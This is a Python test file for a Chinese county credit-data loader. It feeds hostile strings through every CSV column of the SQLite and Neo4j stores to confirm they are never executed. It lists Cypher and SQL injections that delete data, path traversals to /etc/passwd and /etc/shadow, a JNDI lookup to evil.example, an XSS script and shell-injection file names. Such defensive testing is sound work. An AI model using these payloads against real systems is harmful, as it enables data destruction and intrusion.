"""Injection at the loader and store level, on both stores.

Every column of every kind receives Cypher, SQL, path-traversal and other hostile strings, one column and one
payload per row (each row its own enterprise). What must hold:
- nothing is executed: the county loaded beforehand answers exactly as before, every table / constraint is
  still there, and the counts grew by exactly what the file holds;
- no payload ever appears in the text of a statement sent to SQLite or Neo4j: every value travels as a
  parameter (statements are recorded at the driver);
- values come back verbatim from the store (the reader behind `profile`) and from `check` where the field is
  stored: text as sent, departments as the names they split into, amounts' original text; a payload in a code,
  ID number or date column rejects its row with a reason.
Rejects files stay inside CREDITNET_HOME/rejects whatever the source file is called.
"""
from __future__ import annotations

import csv
import json
from datetime import date, timedelta
from pathlib import Path

import pytest

import county as county_module
import graph.stores.embedded as embedded_module
from county import (BLACKLIST_HEADERS, ENTERPRISE_HEADERS, INSPECTION_HEADERS, LICENSE_CHANGE_HEADERS, LICENSE_HEADERS,
                    MEMBER_HEADERS, PENALTY_CHANGE_HEADERS, PENALTY_HEADERS, id_check_char, uscc, write_csv)
from graph.departments import canonical_department, split_departments
from graph.formula_cells import as_sent
from graph.ingest import load_file
from graph.loaders.headers import HEADER_INDEX, normalise_header
from graph.model import KINDS, ROLE_ALIASES
from graph.queries.check import check
from graph.stores.embedded import EmbeddedStore
from graph.settings import get_settings
from reliability.helpers import ARTIFACTS, snapshot, write_json_artifact

ON = date.fromisoformat(county_module.AS_OF)

PAYLOADS = {
    "cypher-delete": "'}) MATCH (n) DETACH DELETE n //",
    "cypher-or": '" OR 1=1 //',
    "cypher-union": "x'}) RETURN 1 AS a UNION MATCH (n) DETACH DELETE n RETURN 1 AS a //",
    "cypher-backtick": "`) DETACH DELETE n WITH 1 AS x MATCH (m) //",
    "cypher-param": "$rows}) CALL db.clearQueryCaches() //",
    "sql-drop": "'); DROP TABLE record; --",
    "sql-or": "' OR '1'='1",
    "sql-stacked": "1; DELETE FROM enterprise; --",
    "sql-comment": 'x"; DROP TABLE person; /*',
    "path-unix": "../../etc/passwd",
    "path-windows": "..\\..\\windows\\system32\\config",
    "path-absolute": "/etc/shadow",
    "template": "${jndi:ldap://evil.example/x} {{7*7}} %s%n",
    "html": "<script>alert('x')</script>",
    "multiline": "第一行\n'); DROP TABLE role; --\r\n第三行",
}

HEADERS = {"enterprise": ENTERPRISE_HEADERS, "member": MEMBER_HEADERS, "license": LICENSE_HEADERS,
           "license-change": LICENSE_CHANGE_HEADERS, "penalty": PENALTY_HEADERS, "penalty-change": PENALTY_CHANGE_HEADERS,
           "inspection": INSPECTION_HEADERS, "blacklist": BLACKLIST_HEADERS}


def person_id(n: int) -> str:
    body = f"640422{date(1970, 1, 1) + timedelta(days=n // 1000):%Y%m%d}{n % 1000:03d}"
    return body + id_check_char(body)


def valid_row(kind: str, n: int) -> list[str]:
    """A row that loads, unique to n (its own enterprise, licence number, decision number, date, person). Its person's
    name is no county person's: a rejected row is remembered under the persons' names (graph/unread.py), and the
    county's answers must not change."""
    code, name, day = uscc(20_000 + n), f"西吉县注入测试{n}号有限公司", (date(2025, 1, 1) + timedelta(days=n % 300)).isoformat()
    return {
        "enterprise": ["1", code, "", name, "有限责任公司", "注入测", "居民身份证", person_id(n), "2015-03-01", "存续", "西吉县吉强镇",
                       "西吉县市场监督管理局"],
        "member": ["1", code, name, "股东", "注入测", "居民身份证", person_id(n), "30%"],
        "license": ["1", code, name, f"许可{n}", "食品经营许可证", "2024-01-01", "2029-01-01", "县市场监督管理局", "餐饮", "有效", "详情"],
        "license-change": ["1", code, name, f"许可{n}", "食品经营许可证", "有效期至", "2029-01-01", "2030-01-01", day],
        "penalty": ["1", code, name, "县市场监督管理局", f"罚{n}", day, "无照经营", "5000元", "0", "罚款", "备注"],
        "penalty-change": ["1", code, name, f"罚{n}", "县市场监督管理局", "罚款改为3000元", day],
        "inspection": ["1", code, name, "县市场监督管理局", "双随机抽查", day, "未发现问题"],
        "blacklist": ["1", code, name, "依据", "描述", "2026-01-01", "", "县法院", "县财政局", "失信被执行人", "法定代表人", "注入测",
                      "居民身份证", person_id(n)],
    }[kind]


def field_of(kind: str, header: str):
    name = HEADER_INDEX[kind].get(normalise_header(header))
    return KINDS[kind].field(name) if name else None


def expectation(kind: str, field) -> str:
    """What a payload in this column must get."""
    if (kind, field.name) in (("blacklist", "id_number"), ("enterprise", "legal_rep_id_number")):
        return "dropped"         # the person's number, not the row: the row loads, the person is kept by name
    if field.type in ("date", "id_number") or (field.type == "code" and not (kind == "enterprise" and field.name == "reg_no")):
        return "reject"          # a code, an ID number (居民身份证) or a date it cannot be
    return field.type            # text, departments, role, amount; the registry's 注册号 (the USCC attaches the row)


@pytest.fixture
def recorded(monkeypatch):
    """Every statement text sent to SQLite (connections the embedded store opens) or to Neo4j (any session)."""
    statements: list[str] = []

    class Recording:
        def __init__(self, conn):
            self._conn = conn

        def execute(self, sql, *args):
            statements.append(sql)
            return self._conn.execute(sql, *args)

        def executemany(self, sql, *args):
            statements.append(sql)
            return self._conn.executemany(sql, *args)

        def executescript(self, sql):
            statements.append(sql)
            return self._conn.executescript(sql)

        def __getattr__(self, name):
            return getattr(self._conn, name)

    real_connect = embedded_module._connect
    monkeypatch.setattr(embedded_module, "_connect", lambda path: Recording(real_connect(path)))
    from neo4j._sync.work.session import Session
    from neo4j._sync.work.transaction import TransactionBase
    for cls in (Session, TransactionBase):
        real_run = cls.run

        def run(self, query, parameters=None, _real=real_run, **kwargs):
            statements.append(getattr(query, "text", query))
            return _real(self, query, parameters, **kwargs)
        monkeypatch.setattr(cls, "run", run)
    return statements


def _structure(store) -> object:
    """The store's schema: SQLite's tables and indexes, or Neo4j's constraints and indexes."""
    if store.name == "embedded":
        return sorted(store._write_conn.execute("SELECT type, name FROM sqlite_master").fetchall())
    with store._session() as s:
        return sorted(r["name"] for query in ("SHOW CONSTRAINTS YIELD name", "SHOW INDEXES YIELD name")
                      for r in s.run(query))


def _county_answers(store) -> list:
    answers = []
    for key in county_module.E.values():
        d = check(store, settings=get_settings(), key=key, as_of=ON).as_dict()
        d.pop("check_id", None)
        d.pop("data_version", None)
        answers.append(d)
    return answers


def _tally(store: str, kind: str, **figures) -> None:
    """Figures for RELIABILITY.md: artifacts/reliability/injection.json, one entry per store and kind."""
    path = ARTIFACTS / "injection.json"
    data = json.loads(path.read_text(encoding="utf-8")) if path.exists() else {}
    data.setdefault("payloads", list(PAYLOADS.values()))
    data.setdefault("runs", {})[f"{store}/{kind}"] = figures
    write_json_artifact("injection.json", data)


@pytest.mark.parametrize("kind", list(HEADERS))
def test_payloads_in_every_column_are_stored_as_text_and_never_executed(kind, store, home, county_files, tmp_path,
                                                                         recorded):
    if store.name == "embedded":  # a store whose connections are recorded (the fixture's were opened earlier)
        store = EmbeddedStore(home)
    for path in county_files.values():
        load_file(store, path, home=home)
    before, structure, answers = snapshot(store), _structure(store), _county_answers(store)

    header = HEADERS[kind]
    rows, plan = [], []
    for col, h in enumerate(header):
        field = field_of(kind, h)
        if field is None:  # 序号
            continue
        for payload in PAYLOADS.values():
            n = len(rows)
            row = valid_row(kind, n)
            row[col] = payload
            rows.append(row)
            plan.append((uscc(20_000 + n), field, payload, expectation(kind, field)))
    recorded.clear()
    report = load_file(store, write_csv(tmp_path / f"{kind}-payloads.csv", header, rows), home=home)

    rejected = sum(1 for *_, e in plan if e == "reject")
    assert (report.rows, report.loaded, report.rejected) == (len(rows), len(rows) - rejected, rejected)
    # The statements that wrote the rows were recorded (Neo4j writes a batch in a handful of UNWIND statements).
    assert any("UNWIND $rows" in s or s.lstrip().upper().startswith("INSERT") for s in recorded), \
        "the statements of the load must have been recorded"
    _tally(store.name, kind, columns=len({f.name for _, f, *_ in plan}), rows=len(rows), rejected=rejected,
           statements=len(recorded))
    for statement in recorded:
        for payload in PAYLOADS.values():
            assert payload not in statement, f"a value reached a statement's text: {statement[:200]!r}"

    # Nothing executed: the county answers as before, the schema is whole, the counts grew by the file alone.
    assert _county_answers(store) == answers and _structure(store) == structure
    after = snapshot(store)
    loaded = len(rows) - rejected
    assert after["nodes"]["enterprise"] == before["nodes"]["enterprise"] + loaded
    if kind in ("enterprise", "member", "blacklist"):
        assert after["nodes"]["person"] >= before["nodes"]["person"]
    else:
        assert sum(after["records"].values()) == sum(before["records"].values()) + loaded
    for cls, n in before["records"].items():
        assert after["records"].get(cls, 0) >= n

    # Verbatim: what the store gives back for each row (the reader profile uses).
    def read_back(reader):
        return {code: (reader.enterprise(code), reader.records_of(code), reader.members_of(code))
                for code, *_ in plan}
    stored = store.read(read_back)
    for code, field, payload, expected in plan:
        enterprise, records, members = stored[code]
        if expected == "reject":
            assert enterprise is None, (field.name, payload)
            continue
        if expected == "dropped":
            kept = enterprise if kind == "enterprise" else records[kind][0]
            assert kept.get(field.name) is None, (field.name, payload)
            continue
        pieces = split_departments(payload)
        if kind == "enterprise":
            got = enterprise["name"] if field.name == "name" else enterprise.get(field.name)
            if expected == "amount":
                assert (enterprise.get(field.name), enterprise.get(field.name + "_text")) == (None, payload)
            elif field.name != "reg_no":
                assert got == payload, (field.name, payload, got)
        elif kind == "member":
            if field.name == "name":
                assert enterprise["name"] == payload
            elif field.name == "person_name":
                assert [e.member.name for e in members] == [payload]
            elif field.name == "role":
                assert [e.roles for e in members] == [(ROLE_ALIASES.get(payload, payload),)]
        else:
            [record] = records[kind]
            if expected == "departments" and kind == "blacklist" and field.name == "sender":
                assert record["sender_as_sent"] == "、".join(pieces)
                assert record["sender"] == min(canonical_department(p) for p in pieces)
            elif expected == "departments" and kind == "blacklist":
                assert record["receivers"] == sorted({canonical_department(p) for p in pieces})
            elif expected == "departments":
                assert record["departments"] == sorted({canonical_department(p) for p in pieces})
            elif expected == "amount":
                assert (record.get(field.name), record[field.name + "_text"]) == (None, payload)
            elif expected == "role":
                assert record[field.name] == ROLE_ALIASES.get(payload, payload)
            else:
                assert record[field.name] == payload, (field.name, payload, record.get(field.name))
            if kind == "blacklist" and field.name in ("basis", "description", "list_type"):
                [hit] = check(store, settings=get_settings(), key=code, as_of=ON).hits
                [restriction] = hit.restrictions
                shown = {"basis": "basis", "description": "description", "list_type": "type"}[field.name]
                assert restriction[shown] == payload

    if report.rejects_file:  # the rejected rows keep their payloads, as text, in the rejects file
        with open(report.rejects_file, encoding="utf-8-sig", newline="") as fh:
            kept = list(csv.reader(fh))
        assert len(kept) == rejected + 1
        # Cells Excel would run are written with a quote in front; as_sent gives back the text as sent.
        assert {as_sent(c) for row in kept for c in row} >= {p for *_, p, e in plan if e == "reject"}


ODD_NAMES = ["..", "...", "..\\..\\evil", "a\nb", "名" * 83, " ", "-rf --no-preserve-root", "$(reboot)", "`id`", ";ls",
             "*", "?", "%2e%2e%2f", "\u202egnp.exe", ".hidden", "x" * 250, "<>:|\"", "../", "\t"]


@pytest.mark.parametrize("name", ODD_NAMES, ids=lambda n: repr(n)[:20])
def test_rejects_files_stay_inside_the_rejects_directory(name, home, tmp_path):
    store = EmbeddedStore(home)
    directory = tmp_path / "src"
    directory.mkdir()
    stem = name.replace("/", "_")  # a file name cannot hold a slash; "../" arrives as a path below
    source = directory / (stem + ".csv") if len((stem + ".csv").encode()) <= 255 else directory / (stem[:60] + ".csv")
    write_csv(source, PENALTY_HEADERS, [valid_row("penalty", 1), ["2", "not-a-code"] + valid_row("penalty", 2)[2:]])
    given = source if name != "../" else directory / ".." / "src" / source.name
    report = load_file(store, given, home=home)
    rejects = Path(report.rejects_file)
    assert report.rejected == 1 and rejects.is_file()
    assert rejects.resolve().parent == (home / "rejects").resolve()
    assert rejects.name.endswith(".rejects.csv") and len(rejects.name.encode()) <= 255
    assert "/" not in rejects.name and "\n" not in rejects.name
    store.close()


def test_two_loads_of_one_name_in_one_second_keep_both_rejects_files(home, tmp_path):
    store = EmbeddedStore(home)
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir(), b.mkdir()
    rows = [valid_row("penalty", 1), ["2", "not-a-code"] + valid_row("penalty", 2)[2:]]
    first = load_file(store, write_csv(a / "penalties.csv", PENALTY_HEADERS, rows), home=home)
    second = load_file(store, write_csv(b / "penalties.csv", PENALTY_HEADERS, rows), home=home)
    assert first.rejects_file != second.rejects_file
    assert Path(first.rejects_file).is_file() and Path(second.rejects_file).is_file()
    store.close()
